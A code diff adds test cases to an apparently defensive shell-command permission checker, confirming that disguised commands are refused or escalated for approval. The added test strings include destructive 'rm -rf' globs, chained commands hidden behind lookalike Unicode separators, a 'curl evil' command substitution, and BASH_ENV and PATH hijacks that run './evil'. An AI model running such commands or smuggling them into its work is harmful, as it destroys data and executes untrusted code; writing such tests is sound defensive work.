@@ -262,6 +262,13 @@ Deno.test("what changes the meaning of a program's name is never allowed", () =>
     "autoload npm",
     "zmodload zsh/system",
     "echo x >! /etc/passwd",
+    "rm -rf *~src",
+    "rm -rf ^src",
+    "rm -rf ***/",
+    "npm test ＆＆ ./evil",
+    "npm run build；sh evil",
+    "bash --rcfile evil -i -c ls",
+    "repeat 'a[$(curl evil)]' ls",
     "sh -c '((npm))'",
     "sh -c '[[ -f x && npm ]]'",
     "sh -c \"echo \\$'\\\\'; npm publish #'\"",
@@ -320,6 +327,20 @@ Deno.test("useful work in the shell's own words needs no entry, and no person", 
     "# a comment",
   ];
   assertEquals(decisions(commands, NPM_TEST), all(commands, "allow"));
+});
+
+Deno.test("an entry that names no variable lets none pass, and one for a program that runs others names none of them", () => {
+  const allow = ["export **", "read **", "npm **", "xargs **", "timeout **", "find **", "bash **"];
+  const policy = { allow: allow.map((command) => ({ command })) };
+  const commands = [
+    "export BASH_ENV=./evil.sh; npm test",
+    "read PATH <<< ./evil; npm test",
+    "xargs -a package.json timeout 5 ./evil",
+    "xargs xargs ./evil",
+    "find . -exec ./evil {} +",
+    "CI=1 xargs ./evil",
+  ];
+  assertEquals(decisions(commands, policy), all(commands, "ask"));
 });
 
 Deno.test("an entry may name the variables of a command", () => {
